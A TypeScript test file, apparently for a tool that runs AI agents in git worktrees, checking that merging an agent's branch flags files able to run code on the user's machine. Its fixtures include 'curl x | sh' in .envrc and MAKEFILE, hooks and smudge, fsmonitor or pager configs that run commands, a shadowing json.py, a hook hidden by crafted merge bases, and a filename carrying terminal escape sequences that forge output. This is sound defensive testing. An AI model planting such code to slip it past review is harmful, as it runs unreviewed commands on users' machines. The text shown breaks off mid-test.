// `agent worktrees list|merge|clean|remove` against real git repositories
// whose agent worktrees are made with plain git, as a run would leave them.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, test } from 'node:test';
import { cli, needs, tempHome, writeFile } from '../helpers.js';
import { type RepoHome, repoHome } from '../worktree-setup.js';

describe('agent worktrees commands (real git)', needs('git'), () => {
  let r: RepoHome;
  beforeEach(() => (r = repoHome()));
  afterEach(() => r.cleanup());
  const sb = (args: string[]) => cli(['agent', 'worktrees', ...args], { env: r.env, cwd: r.root });
  const wt = (name: string) => join(r.root, '.stashbase', 'worktrees', name);
  /** An agent worktree as a run leaves it, with `commits` files committed on its branch. */
  const agent = (name: string, commits: Record<string, string> = {}) => {
    r.git(['worktree', 'add', '-q', '-b', `stashbase/${name}`, wt(name), 'HEAD']);
    for (const [file, text] of Object.entries(commits)) {
      writeFile(join(wt(name), file), text);
      r.git(['add', file], wt(name));
      r.git(['commit', '-qm', `agent: ${file}`], wt(name));
    }
  };
  const runningLock = (name: string) => r.git(['worktree', 'lock', '--reason', `stashbase run ags_aaaaaaaaaaaaaaaa pid ${process.pid}`, wt(name)]);
  const branches = () => r.git(['for-each-ref', '--format=%(refname:short)', 'refs/heads/stashbase/']).split('\n').filter(Boolean);

  test('list: every status, unmerged counts, --json; empty; outside a repository', async () => {
    assert.deepEqual((await sb(['list'])).stdout, `No agent worktrees or branches in ${r.root}.\n`);
    agent('amber-clean-one');
    agent('bold-dirty-two', { 'x.txt': 'x\n' });
    writeFileSync(join(wt('bold-dirty-two'), 'wip.txt'), 'wip');
    agent('calm-running-three');
    runningLock('calm-running-three');
    agent('deep-locked-four');
    r.git(['worktree', 'lock', '--reason', 'mine', wt('deep-locked-four')]);
    agent('even-unsafe-five');
    writeFileSync(join(wt('even-unsafe-five'), '.git'), 'gitdir: /tmp/elsewhere\n');
    agent('fair-stale-six');
    r.git(['worktree', 'lock', '--reason', 'stashbase run ags_aaaaaaaaaaaaaaab pid 999999', wt('fair-stale-six')]);
    agent('gold-branch-seven', { 'y.txt': 'y\n', 'z.txt': 'z\n' });
    r.git(['worktree', 'remove', wt('gold-branch-seven')]);
    const json = JSON.parse((await sb(['list', '--json'])).stdout) as Array<Record<string, unknown>>;
    assert.deepEqual(json.map((w) => [w.name, w.status, w.unmerged, w.staleLock, w.path]), [
      ['amber-clean-one', 'clean', 0, false, wt('amber-clean-one')],
      ['bold-dirty-two', 'dirty', 1, false, wt('bold-dirty-two')],
      ['calm-running-three', 'running', 0, false, wt('calm-running-three')],
      ['deep-locked-four', 'locked', 0, false, wt('deep-locked-four')],
      ['even-unsafe-five', 'UNSAFE', 0, false, wt('even-unsafe-five')],
      ['fair-stale-six', 'clean', 0, true, wt('fair-stale-six')],
      ['gold-branch-seven', 'branch only', 2, false, null],
    ]);
    const table = (await sb(['list'])).stdout.split('\n');
    assert.equal(table[0], 'NAME                BRANCH                        STATUS              UNMERGED  PATH');
    assert.equal(table[6], `fair-stale-six      stashbase/fair-stale-six      clean (stale lock)  0         ${wt('fair-stale-six')}`);
    assert.equal(table[7], 'gold-branch-seven   stashbase/gold-branch-seven   branch only         2         -');
    const t = tempHome();
    const outside = await cli(['agent', 'worktrees', 'list'], { env: t.env, cwd: t.dir });
    assert.deepEqual([outside.code, outside.stderr], [1, `stashbase: agent worktrees list needs a git repository, and ${t.dir} is not in one; nothing was done\n`]);
    t.cleanup();
  });

  test('a worktree whose admin folder git numbered (a left-over folder of the name) is recognised, not UNSAFE', async () => {
    mkdirSync(join(r.root, '.git', 'worktrees', 'amber-left-over'), { recursive: true });
    agent('amber-left-over', { 'l.txt': 'l\n' });
    assert.equal(readFileSync(join(wt('amber-left-over'), '.git'), 'utf8'), `gitdir: ${join(r.root, '.git', 'worktrees', 'amber-left-over1')}\n`);
    const json = JSON.parse((await sb(['list', '--json'])).stdout) as Array<Record<string, unknown>>;
    assert.deepEqual(json.map((w) => [w.name, w.status]), [['amber-left-over', 'clean']]);
    // An admin folder elsewhere than directly under .git/worktrees is never taken from the pointer.
    writeFileSync(join(wt('amber-left-over'), '.git'), `gitdir: ${join(r.root, '.git')}\n`);
    assert.deepEqual((JSON.parse((await sb(['list', '--json'])).stdout) as Array<Record<string, unknown>>).map((w) => w.status), ['UNSAFE']);
  });

  test('--resume refuses a worktree a run is using, one you locked, and an UNSAFE one; nothing runs', async () => {
    agent('calm-busy-one');
    runningLock('calm-busy-one');
    agent('deep-held-two');
    r.git(['worktree', 'lock', '--reason', 'mine', wt('deep-held-two')]);
    agent('even-odd-three');
    writeFileSync(join(r.root, '.git', 'worktrees', 'even-odd-three', 'commondir'), '/tmp\n');
    const marker = join(r.dir, 'ran');
    const cases: Array<[string, string]> = [
      ['calm-busy-one', `stashbase: worktree calm-busy-one is in use by a run still going (pid ${process.pid}); nothing was run`],
      ['deep-held-two', `stashbase: worktree deep-held-two is locked (mine); unlock it with git worktree unlock ${wt('deep-held-two')}; nothing was run`],
      ['even-odd-three', `stashbase: worktree even-odd-three is UNSAFE: its git pointer files are not what git wrote; inspect ${wt('even-odd-three')} by hand before running git in it; nothing was run`],
    ];
    for (const [name, message] of cases) {
      const res = await cli(['agent', 'run', '--resume', name, '--', 'touch', marker], { env: r.env, cwd: r.root });
      assert.deepEqual([res.code, res.stderr.trim().split('\n').pop()], [4, message]);
    }
    assert.equal(existsSync(marker), false);
  });

  test('[workspace] worktree = true in a profile runs in a worktree; --worktree=false skips it once', async () => {
    writeFile(join(r.sbHome, 'agents', 'wt.toml'), '[workspace]\nworktree = true\n');
    const inWt = await cli(['agent', 'run', '--profile', 'wt', '--dry-run', '--', 'true'], { env: r.env, cwd: r.root });
    assert.equal(inWt.code, 0, inWt.stderr);
    assert.match(inWt.stdout, /^# stashbase agent run: .*, worktree <name>$/m);
    const skipped = await cli(['agent', 'run', '--profile', 'wt', '--worktree=false', '--dry-run', '--', 'true'], { env: r.env, cwd: r.root });
    assert.equal(skipped.code, 0, skipped.stderr);
    // No worktree step or header: the plain run's own git directory instead.
    assert.doesNotMatch(skipped.stdout, /worktree/);
    assert.match(skipped.stdout, /^# create .*\/runs\/ags_[a-z2-7]{16}\/git, mounted at .*\/\.git \(the run's own git directory; the agent's git writes here, never into yours\):$/m);
  });

  test('merge: a merge commit, the worktree and branch removed; -m; --squash; --keep', async () => {
    agent('amber-river-storm', { 'feature.txt': 'f\n' });
    const res = await sb(['merge', 'amber-river-storm']);
    assert.equal(res.code, 0, res.stderr);
    const oid = res.stdout.match(/^Merged stashbase\/amber-river-storm \(([0-9a-f]{12})\) into main\.$/m)?.[1];
    assert.ok(oid, res.stdout);
    assert.match(res.stdout, /\nRemoved worktree amber-river-storm and branch stashbase\/amber-river-storm\.\n$/);
    assert.equal(r.git(['log', '-1', '--format=%s%n%P']).trim().split('\n')[0], "Merge branch 'stashbase/amber-river-storm'");
    assert.equal(r.git(['log', '-1', '--format=%P']).trim().split(' ').length, 2);
    assert.equal(existsSync(wt('amber-river-storm')), false);
    assert.deepEqual(branches(), []);

    agent('bold-cliff-wave', { 'b.txt': 'b\n' });
    assert.equal((await sb(['merge', 'bold-cliff-wave', '-m', 'Add b'])).code, 0);
    assert.equal(r.git(['log', '-1', '--format=%s']).trim(), 'Add b');

    agent('calm-lake-dawn', { 'c1.txt': '1\n', 'c2.txt': '2\n' });
    const squash = await sb(['merge', 'calm-lake-dawn', '--squash', '--keep']);
    assert.equal(squash.code, 0, squash.stderr);
    assert.match(squash.stdout, /into main as one squashed commit\.\n$/);
    assert.equal(r.git(['log', '-1', '--format=%P']).trim().split(' ').length, 1);
    assert.match(r.git(['log', '-1', '--format=%B']), /^Squashed commit of the following:/);
    assert.deepEqual(r.git(['show', '--name-only', '--format=', 'HEAD']).trim().split('\n'), ['c1.txt', 'c2.txt']);
    assert.equal(existsSync(wt('calm-lake-dawn')), true);
    assert.deepEqual(branches(), ['stashbase/calm-lake-dawn']);
    const again = await sb(['merge', 'calm-lake-dawn']);
    assert.equal(again.code, 0, again.stderr);
    assert.match(again.stdout, /^Merged/m); // a squash leaves the branch unmerged by history: merged again, changing nothing
  });

  test("(review, round 29) merge shows git's output printable: a path of the agent's holding escape sequences (a new title, the screen cleared, a forged line, the rest hidden) reaches the terminal escaped; unlisted: a C1 CSI and a line separator; control: git merge itself writes them raw", async () => {
    // (Round 30) and a newline: every line of git's shown after "  | ", so none starts like stashbase's own.
    const name = 'notes\x1b]0;TITLE\x07\x1b[2J\x1b[Hstashbase: merged cleanly\u009b8m\u2028\nstashbase: merged cleanly.txt';
    writeFile(join(r.root, 'notes.txt'), Array.from({ length: 30 }, (_, i) => `${i}`).join('\n') + '\n');
    r.git(['add', 'notes.txt']);
    r.git(['commit', '-qm', 'notes']);
    agent('amber-glow-fern');
    r.git(['mv', 'notes.txt', name], wt('amber-glow-fern'));
    writeFileSync(join(wt('amber-glow-fern'), name), Array.from({ length: 30 }, (_, i) => (i === 25 ? 'twenty-five' : `${i}`)).join('\n') + '\n');
    r.git(['commit', '-qam', 'rename'], wt('amber-glow-fern'));
    writeFileSync(join(r.root, 'notes.txt'), Array.from({ length: 30 }, (_, i) => (i === 1 ? 'one' : `${i}`)).join('\n') + '\n');
    r.git(['commit', '-qam', 'mine']);
    // The control: git merge (here in a copy of the repository) writes the name raw.
    const ctl = join(r.home, 'merge-control');
    r.git(['clone', '-q', '--no-local', r.root, ctl]);
    r.git(['fetch', '-q', r.root, 'stashbase/amber-glow-fern'], ctl);
    const raw = spawnSync('git', ['merge', '--no-edit', 'FETCH_HEAD'], { cwd: ctl, env: r.env, encoding: 'utf8' });
    assert.equal(raw.status, 0, raw.stderr);
    assert.ok(`${raw.stdout}${raw.stderr}`.includes('\x1b]0;TITLE'), `control: ${raw.stdout}${raw.stderr}`);
    const res = await sb(['merge', 'amber-glow-fern', '--yes']);
    assert.equal(res.code, 0, res.stderr);
    const out = `${res.stdout}${res.stderr}`;
    assert.equal(/[\x1b\x07\u009b\u2028]/.test(out), false, JSON.stringify(out));
    assert.match(out, /^ {2}\| Auto-merging notes\\x1b\]0;TITLE\\x07\\x1b\[2J\\x1b\[Hstashbase: merged cleanly\\x9b8m\\u\{2028\}$/m);
    assert.match(out, /^ {2}\| stashbase: merged cleanly\.txt$/m);
    assert.doesNotMatch(out, /^stashbase: merged cleanly/m);
    assert.match(res.stdout, /^Merged stashbase\/amber-glow-fern \([0-9a-f]{12}\) into main\.$/m);
  });

  test("(review, round 30) the merge review computes the merge with none of your merge drivers: yours ran on the agent's file before you answered; control: git merge-tree runs it", async () => {
    const log = join(r.home, 'merge-driver.log');
    r.git(['config', 'merge.demo.driver', `sh -c 'echo ran >> ${log}; exit 1'`]);
    writeFileSync(join(r.root, '.git', 'info', 'attributes'), 'a.txt merge=demo\n');
    agent('amber-drive-wave', { 'a.txt': 'agent\n', Makefile: 'all:\n\ttrue\n' });
    writeFileSync(join(r.root, 'a.txt'), 'mine\n');
    r.git(['commit', '-qam', 'mine']);
    const res = await sb(['merge', 'amber-drive-wave']);
    assert.equal(res.code, 1);
    assert.match(res.stderr, /confirm in a terminal or pass --yes; nothing was merged/);
    assert.equal(existsSync(log), false, 'your merge driver did not run in the review');
    // The control: git merge-tree (what the review runs) with your config runs it.
    spawnSync('git', ['merge-tree', '--write-tree', 'HEAD', 'stashbase/amber-drive-wave'], { cwd: r.root, env: r.env });
    assert.match(readFileSync(log, 'utf8'), /ran/);
  });

  test('merge: the review lists what can run on your machine and waits for a yes; --yes skips the question, not the list', async () => {
    agent('deep-moss-glen', { '.envrc': 'curl x | sh\n', 'Makefile': 'all:\n\ttrue\n', 'ok.txt': 'fine\n' });
    const refused = await sb(['merge', 'deep-moss-glen']);
    const list = [
      'stashbase/deep-moss-glen changes files that can run code on your machine; look at them before merging (git diff HEAD...stashbase/deep-moss-glen -- <path>):',
      '  .envrc    direnv: runs when you enter the folder; added',
      '  Makefile  build file; added',
    ].join('\n');
    assert.deepEqual([refused.code, refused.stdout, refused.stderr], [1, `${list}\n`, 'stashbase: stashbase/deep-moss-glen changes files that can run code on your machine: confirm in a terminal or pass --yes; nothing was merged\n']);
    assert.equal(existsSync(join(r.root, '.envrc')), false);
    const yes = await sb(['merge', 'deep-moss-glen', '--yes']);
    assert.equal(yes.code, 0, yes.stderr);
    assert.ok(yes.stdout.startsWith(`${list}\n`), yes.stdout);
    assert.equal(readFileSync(join(r.root, '.envrc'), 'utf8'), 'curl x | sh\n');
  });

  test('(review, round 26) merge reviews the branch against every merge base: a criss-cross history the agent made (its dates choosing the base git names first) hides no hook; control: against that base alone the hook is not in the diff', async () => {
    const at = (date: string) => ({ ...r.env, GIT_COMMITTER_DATE: date, GIT_AUTHOR_DATE: date });
    const g = (args: string[], date = '2024-01-05T00:00:00') => {
      const out = spawnSync('git', args, { cwd: r.root, env: at(date), encoding: 'utf8' });
      assert.equal(out.status, 0, `git ${args.join(' ')}: ${out.stderr}`);
      return out.stdout.trim();
    };
    // A first run: a hook added, then removed again on a side line, merged back: its net change is a text file alone.
    g(['checkout', '-qb', 'stashbase/dry-reed-vale']);
    writeFile(join(r.root, '.husky', 'pre-commit'), '#!/bin/sh\ntouch "$HOME/PWNED"\n');
    spawnSync('chmod', ['+x', join(r.root, '.husky', 'pre-commit')]);
    g(['add', '-A']);
    g(['commit', '-qm', 'O'], '2024-01-01T00:00:00');
    const o = g(['rev-parse', 'HEAD']);
    writeFile(join(r.root, 'doc1.txt'), 'doc\n');
    g(['add', '-A']);
    g(['commit', '-qm', 'P1'], '2024-01-03T00:00:00');
    const p1 = g(['rev-parse', 'HEAD']);
    g(['checkout', '-q', o]);
    g(['rm', '-q', '.husky/pre-commit']);
    g(['commit', '-qm', 'B'], '2024-01-02T00:00:00');
    const b = g(['rev-parse', 'HEAD']);
    g(['checkout', '-q', 'stashbase/dry-reed-vale']);
    g(['merge', '-q', '--no-edit', b, '-m', 'P2']);
    g(['checkout', '-q', 'main']);
    const first = await sb(['merge', 'dry-reed-vale']);
    assert.deepEqual([first.code, first.stderr], [0, ''], 'its net change runs nothing: merged without a question');
    assert.equal(existsSync(join(r.root, '.husky', 'pre-commit')), false);
    // A second run: a commit whose parents are P1 and B, with P2's tree and O's hook: both are merge bases now.
    const idx = join(r.home, 'idx');
    spawnSync('git', ['read-tree', `--index-output=${idx}`, 'HEAD'], { cwd: r.root, env: r.env });
    const hook = g(['ls-tree', o, '.husky/pre-commit']).split(/\s+/);
    const u = spawnSync('git', ['update-index', '--add', '--cacheinfo', `${hook[0]},${hook[2]},.husky/pre-commit`], { cwd: r.root, env: { ...r.env, GIT_INDEX_FILE: idx }, encoding: 'utf8' });
    assert.equal(u.status, 0, u.stderr);
    const tree = spawnSync('git', ['write-tree'], { cwd: r.root, env: { ...r.env, GIT_INDEX_FILE: idx }, encoding: 'utf8' }).stdout.trim();
    const x = g(['commit-tree', tree, '-p', p1, '-p', b, '-m', 'X: a small fix']);
    g(['branch', 'stashbase/soft-dune-cove', x]);
    const bases = g(['merge-base', '--all', 'HEAD', x]).split('\n');
    assert.deepEqual(bases.sort(), [p1, b].sort());
    assert.equal(g(['diff', '--name-only', g(['merge-base', 'HEAD', x]), x]), '', 'control: against the base git names first, the branch changes nothing');
    const refused = await sb(['merge', 'soft-dune-cove']);
    assert.equal(refused.code, 1, refused.stdout);
    assert.deepEqual(refused.stdout.trim().split('\n').slice(1).map((l) => l.trim().split(/\s{2,}/)), [['.husky/pre-commit', 'git hook (runs when a hooks path points here); added; new executable file']]);
    assert.equal(existsSync(join(r.root, '.husky', 'pre-commit')), false);
    // Control: git's own merge writes the hook.
    g(['merge', '-q', '--no-edit', x]);
    assert.equal(existsSync(join(r.root, '.husky', 'pre-commit')), true);
  });

  test('(review, round 26) merge reviews what the merge would write: a file of the branch your side renamed since (hooks-examples/ made .githooks/) is named under its new name; control: the branch\'s own diff names only the old one', async () => {
    writeFile(join(r.root, 'hooks-examples', 'pre-commit'), '#!/bin/sh\n# example\nexit 0\n');
    r.git(['add', '-A']);
    r.git(['commit', '-qm', 'examples']);
    agent('calm-fern-dale');
    writeFile(join(wt('calm-fern-dale'), 'hooks-examples', 'pre-commit'), '#!/bin/sh\n# example\ntouch "$HOME/PWNED"\nexit 0\n');
    r.git(['commit', '-qam', 'tweak the example'], wt('calm-fern-dale'));
    // Yours meanwhile: the examples become the hooks folder.
    r.git(['mv', 'hooks-examples', '.githooks']);
    r.git(['commit', '-qm', 'use .githooks']);
    const base = r.git(['merge-base', 'HEAD', 'stashbase/calm-fern-dale']).trim();
    assert.equal(r.git(['diff', '--name-only', base, 'stashbase/calm-fern-dale']), 'hooks-examples/pre-commit\n', 'control: the branch changed the example alone');
    const refused = await sb(['merge', 'calm-fern-dale']);
    assert.equal(refused.code, 1, refused.stdout);
    assert.deepEqual(refused.stdout.trim().split('\n').slice(1).map((l) => l.trim().split(/\s{2,}/)), [['.githooks/pre-commit', 'git hook (runs when a hooks path points here); changed']]);
    assert.equal(readFileSync(join(r.root, '.githooks', 'pre-commit'), 'utf8'), '#!/bin/sh\n# example\nexit 0\n');
    await sb(['remove', 'calm-fern-dale', '--yes']);
  });

  test("merge without a terminal refuses what the run itself keeps from the agent, in any case (.CURSOR, MAKEFILE), and manifests and container files with code in them", async () => {
    agent('fine-pine-glade', { '.CURSOR/mcp.json': '{"mcpServers":{"x":{"command":"sh"}}}\n', 'MAKEFILE': 'all:\n\tcurl x | sh\n', 'compose.yaml': 'services: {}\n', 'Dockerfile': 'FROM x\n', 'ok.txt': 'fine\n' });
    const refused = await sb(['merge', 'fine-pine-glade']);
    assert.equal(refused.code, 1, refused.stderr);
    assert.deepEqual(refused.stdout.trim().split('\n').slice(1).map((l) => l.trim().split(/\s{2,}/)[0]), ['.CURSOR/mcp.json', 'Dockerfile', 'MAKEFILE', 'compose.yaml']);
    assert.equal(refused.stderr, 'stashbase: stashbase/fine-pine-glade changes files that can run code on your machine: confirm in a terminal or pass --yes; nothing was merged\n');
    assert.equal(existsSync(join(r.root, 'MAKEFILE')), false);
    await sb(['remove', 'fine-pine-glade', '--yes']);
  });

  test('(review, round 19) merge lists and refuses a change to a hook in the folder your core.hooksPath names, whatever its name or spelling, and to a config file your repository\'s config includes from the tree; control: git merge runs the branch\'s post-merge', async () => {
    // Your team's hooks, tracked in a folder of no known name, named by an absolute path with a trailing slash; a config included from the tree.
    writeFile(join(r.root, 'tools', 'Hooks', 'post-merge'), '#!/bin/sh\necho team hook\n');
    spawnSync('chmod', ['755', join(r.root, 'tools', 'Hooks', 'post-merge')]);
    writeFile(join(r.root, 'shared.gitconfig'), '[core]\n\tautocrlf = false\n');
    r.git(['add', 'tools', 'shared.gitconfig']);
    r.git(['commit', '-qm', 'team hooks']);
    r.git(['config', 'core.hooksPath', `${r.root}/tools/Hooks/`]);
    r.git(['config', 'include.path', '../shared.gitconfig']);
    const marker = join(r.home, 'hook-ran');
    agent('wild-reed-cove', { 'tools/Hooks/post-merge': `#!/bin/sh\ntouch ${marker}\n`, 'shared.gitconfig': '[core]\n\tpager = touch /tmp/x\n', 'ok.txt': 'fine\n' });
    const refused = await sb(['merge', 'wild-reed-cove']);
    assert.equal(refused.code, 1, refused.stdout);
    assert.deepEqual(refused.stdout.trim().split('\n').slice(1), [
      "  shared.gitconfig        git config your repository's config includes: your next git command obeys it (hooks, fsmonitor, a pager); changed",
      "  tools/Hooks/post-merge  git hook in the folder your core.hooksPath names: your git runs it, this merge's post-merge and commit hooks included; changed",
    ]);
    assert.equal(existsSync(marker), false);
    // Spelled otherwise in the branch than in the config (a case-insensitive file system takes one for the other): still a hook.
    r.git(['config', 'core.hooksPath', 'TOOLS/hooks']);
    const again = await sb(['merge', 'wild-reed-cove']);
    assert.equal(again.code, 1, again.stdout);
    assert.match(again.stdout, /tools\/Hooks\/post-merge +git hook in the folder your core\.hooksPath names/);
    r.git(['config', 'core.hooksPath', `${r.root}/tools/Hooks/`]);
    // The control: your own git merge of the branch runs its post-merge.
    r.git(['merge', '-q', '--no-edit', 'stashbase/wild-reed-cove']);
    assert.equal(existsSync(marker), true, 'git merge ran the branch\'s hook');
  });

  test("(review, round 33) merge lists and refuses a change to a file your config's values or your hooks name in the tree: a smudge filter's script, a hook that is a link to a script of the tree, one a hook of yours runs; unlisted: the attributes file core.attributesFile names; control: git merge runs the branch's smudge script", async () => {
    writeFile(join(r.root, 'scripts', 'smudge.sh'), 'cat\n');
    writeFile(join(r.root, 'scripts', 'post-merge'), '#!/bin/sh\nexit 0\n');
    writeFile(join(r.root, 'scripts', 'check'), '#!/bin/sh\nexit 0\n');
    writeFile(join(r.root, 'tools', 'attrs'), '');
    writeFile(join(r.root, '.gitattributes'), '*.ipynb filter=strip\n');
    spawnSync('chmod', ['755', join(r.root, 'scripts', 'post-merge'), join(r.root, 'scripts', 'check')]);
    r.git(['add', '-A']);
    r.git(['commit', '-qm', 'team scripts']);
    r.git(['config', 'filter.strip.smudge', 'sh scripts/smudge.sh']);
    r.git(['config', 'core.attributesFile', 'tools/attrs']);
    symlinkSync('../../scripts/post-merge', join(r.root, '.git', 'hooks', 'post-merge'));
    writeFileSync(join(r.root, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\nexec ./scripts/check "$@"\n', { mode: 0o755 });
    const marker = join(r.home, 'smudged');
    agent('calm-fern-ridge', { 'scripts/smudge.sh': `touch ${marker}; cat\n`, 'scripts/post-merge': '#!/bin/sh\necho merged\n', 'scripts/check': '#!/bin/sh\necho checked\n', 'tools/attrs': '* filter=strip\n', 'zz.ipynb': '{}\n', 'ok.txt': 'fine\n' });
    const refused = await sb(['merge', 'calm-fern-ridge']);
    assert.equal(refused.code, 1, refused.stdout + refused.stderr);
    assert.deepEqual(refused.stdout.trim().split('\n').slice(1), [
      '  scripts/check       named by your git hook pre-commit: your git runs or reads it (this merge too); changed',
      '  scripts/post-merge  your git hook post-merge is a link to it: your git runs or reads it (this merge too); changed',
      "  scripts/smudge.sh   named by your git config's filter.strip.smudge: your git runs or reads it (this merge too); changed",
      "  tools/attrs         named by your git config's core.attributesfile: your git runs or reads it (this merge too); changed",
    ]);
    assert.equal(existsSync(marker), false);
    // The control: your own git merge of the branch runs its smudge script.
    r.git(['merge', '-q', '--no-edit', 'stashbase/calm-fern-ridge']);
    assert.equal(existsSync(marker), true, "git merge ran the branch's smudge script");
  });

  test("(review, round 34) merge lists a module a branch adds at the top where your hook runs python -m (json.py, which python3 -m json.tool imports first); control: after git merge, your commit imports it", async () => {
    const marker = join(r.home, 'json-imported');
    agent('bold-moss-reef', { 'json.py': `open(${JSON.stringify(marker)}, 'w')\n`, 'fine.txt': 'ok\n' });
    rmSync(marker, { force: true });
    writeFileSync(join(r.root, '.git', 'hooks', 'pre-commit'), "#!/bin/sh\necho '{}' | python3 -m json.tool >/dev/null\n", { mode: 0o755 });
    const refused = await sb(['merge', 'bold-moss-reef']);
    assert.equal(refused.code, 1, refused.stdout + refused.stderr);
    assert.match(refused.stdout, /^  json\.py +a module your hook's python -m imports, found first at the top: your git runs or reads it \(this merge too\); added$/m);
    assert.doesNotMatch(refused.stdout, /fine\.txt/);
    // The control: merged, your next commit's hook imports the branch's module.
    r.git(['merge', '-q', '--no-edit', 'stashbase/bold-moss-reef']);
    spawnSync('git', ['-c', 'user.name=u', '-c', 'user.email=u@x', 'commit', '-q', '--allow-empty', '-m', 'after'], { cwd: r.root });
    assert.equal(existsSync(marker), true);
    spawnSync('rm', ['-f', join(r.root, '.git', 'hooks', 'pre-commit')]);
  });

  test("(review, round 33, second pass) merge lists a branch's file your config includes where it was missing, empty, or under a condition not met yet; control: after git merge, your git status runs the fsmonitor the branch's file names", async () => {
    writeFile(join(r.root, 'shared.cfg'), '');
    r.git(['add', 'shared.cfg']);
    r.git(['commit', '-qm', 'shared config']);
    r.git(['config', 'include.path', '../local.cfg']);
    r.git(['config', '--add', 'include.path', '../shared.cfg']);
    r.git(['config', 'includeIf.onbranch:release.path', '../release.cfg']);
    const marker = join(r.home, 'fsmonitor-ran');
    const planted = `[core]\n\tfsmonitor = "touch ${marker}; false"\n`;
    agent('brisk-moss-cove', { 'local.cfg': planted, 'shared.cfg': planted, 'release.cfg': planted, 'ok.txt': 'fine\n' });
    const refused = await sb(['merge', 'brisk-moss-cove']);
    assert.equal(refused.code, 1, refused.stdout + refused.stderr);
    const why = "git config your repository's config includes: your next git command obeys it (hooks, fsmonitor, a pager)";
    assert.deepEqual(refused.stdout.trim().split('\n').slice(1), [`  local.cfg    ${why}; added`, `  release.cfg  ${why}; added`, `  shared.cfg   ${why}; changed`]);
    assert.equal(existsSync(marker), false);
    // The control: your own merge, then your git status, runs what the branch's file names.
    r.git(['merge', '-q', '--no-edit', 'stashbase/brisk-moss-cove']);
    spawnSync('git', ['status', '--short'], { cwd: r.root, env: r.env });
    assert.equal(existsSync(marker), true);
  });

  test("(review, round 33, regressions) merge does not list the files under a folder a hook only enters (cd src && npx lint-staged); control: the script a hook runs is listed", async () => {
    writeFile(join(r.root, 'scripts', 'check.sh'), 'true\n');
    r.git(['add', 'scripts']);
    r.git(['commit', '-qm', 'check']);
    writeFileSync(join(r.root, '.git', 'hooks', 'post-merge'), '#!/bin/sh\ncd src && npx lint-staged\n./scripts/check.sh\n', { mode: 0o755 });
    agent('quiet-pond-reed', { 'src/index.js': 'x\n', 'src/util/u.js': 'y\n', 'scripts/check.sh': 'echo changed\n' });
    const refused = await sb(['merge', 'quiet-pond-reed']);
    assert.equal(refused.code, 1, refused.stdout + refused.stderr);
    assert.deepEqual(refused.stdout.trim().split('\n').slice(1), ['  scripts/check.sh  named by your git hook post-merge: your git runs or reads it (this merge too); changed']);
    rmSync(join(r.root, '.git', 'hooks', 'post-merge'));
  });

  test('merge refuses: uncommitted changes on either side, UNSAFE, unknown names; merges the reviewed commit, not a tag named like the branch', async () => {
    agent('even-fern-hill', { 'e.txt': 'e\n' });
    writeFileSync(join(r.root, 'a.txt'), 'mine\n');
    const mine = await sb(['merge', 'even-fern-hill']);
    assert.deepEqual([mine.code, mine.stderr], [1, `stashbase: your checkout ${r.root} has uncommitted changes; commit or stash them first; nothing was merged\n`]);
    r.git(['checkout', '--', 'a.txt']);
    writeFileSync(join(wt('even-fern-hill'), 'wip.txt'), 'wip');
    const theirs = await sb(['merge', 'even-fern-hill']);
    assert.deepEqual([theirs.code, theirs.stderr], [1, `stashbase: even-fern-hill has uncommitted changes in ${wt('even-fern-hill')}; commit or discard them there first; nothing was merged\n`]);
    // Its changes are stashbase's own (an .envrc moved aside at a run's end): the refusal says so, and how to go on.
    rmSync(join(wt('even-fern-hill'), 'wip.txt'));
    writeFileSync(join(wt('even-fern-hill'), '.envrc.stashbase-quarantine'), 'export X=1\n');
    const aside = await sb(['merge', 'even-fern-hill']);
    assert.deepEqual([aside.code, aside.stderr], [1, `stashbase: even-fern-hill has uncommitted changes in ${wt('even-fern-hill')}: stashbase moved aside a file at the end of a run there (each would run on your machine; named then), as ".envrc.stashbase-quarantine". Review it, then in ${wt('even-fern-hill')} restore (mv each back to the name the warning at the end of that run gave) or delete it and commit or discard what is left; nothing was merged\n`]);
    rmSync(join(wt('even-fern-hill'), '.envrc.stashbase-quarantine'));
    writeFileSync(join(wt('even-fern-hill'), 'wip.txt'), 'wip');
    agent('fair-oak-reef', { 'f.txt': 'f\n' });
    writeFileSync(join(r.root, '.git', 'worktrees', 'fair-oak-reef', 'gitdir'), '/tmp/x/.git\n');
    const unsafe = await sb(['merge', 'fair-oak-reef']);
    assert.deepEqual([unsafe.code, unsafe.stderr], [1, `stashbase: fair-oak-reef is UNSAFE: its git pointer files are not what git wrote; inspect ${wt('fair-oak-reef')} by hand (git merge stashbase/fair-oak-reef once you trust it); nothing was merged\n`]);
    const none = await sb(['merge', 'no-such-name']);
    assert.deepEqual([none.code, none.stderr], [1, `stashbase: there is no agent worktree or branch stashbase/no-such-name in ${r.root}\n`]);
    const bad = await sb(['merge', '../x']);
    assert.deepEqual([bad.code, bad.stderr], [2, 'stashbase: an agent worktree name looks like amber-river-storm, not "../x"\n']);
    // A tag spelled like the branch points elsewhere: git would merge the tag for that name; stashbase merges the branch's commit.
    agent('gold-pine-cove', { 'g.txt': 'g\n' });
    r.git(['tag', 'stashbase/gold-pine-cove', 'HEAD~1']);
    const res = await sb(['merge', 'gold-pine-cove']);
    assert.equal(res.code, 0, res.stderr);
    assert.equal(readFileSync(join(r.root, 'g.txt'), 'utf8'), 'g\n');
  });

  test('merge of a running run: its committed work only, the worktree kept; a conflict stops and keeps both', async () => {
    agent('half-moon-bay', { 'h.txt': 'h\n' });
    runningLock('half-moon-bay');
    writeFileSync(join(wt('half-moon-bay'), 'uncommitted.txt'), 'not yet');
    const res = await sb(['merge', 'half-moon-bay']);
    assert.equal(res.code, 0, res.stderr);
    assert.match(res.stdout, /^half-moon-bay is still running: merging its committed work \([0-9a-f]{12}\) only\.$/m);
    assert.match(res.stdout, /\nWorktree half-moon-bay is in use by a run: kept, with its branch\.\n$/);
    assert.equal(existsSync(join(r.root, 'h.txt')), true);
    assert.equal(existsSync(join(r.root, 'uncommitted.txt')), false);
    assert.equal(existsSync(wt('half-moon-bay')), true);

    agent('iron-gate-path', { 'a.txt': 'agent version\n' });
    writeFileSync(join(r.root, 'a.txt'), 'my version\n');
    r.git(['commit', '-qam', 'mine']);
    const conflict = await sb(['merge', 'iron-gate-path']);
    assert.equal(conflict.code, 1);
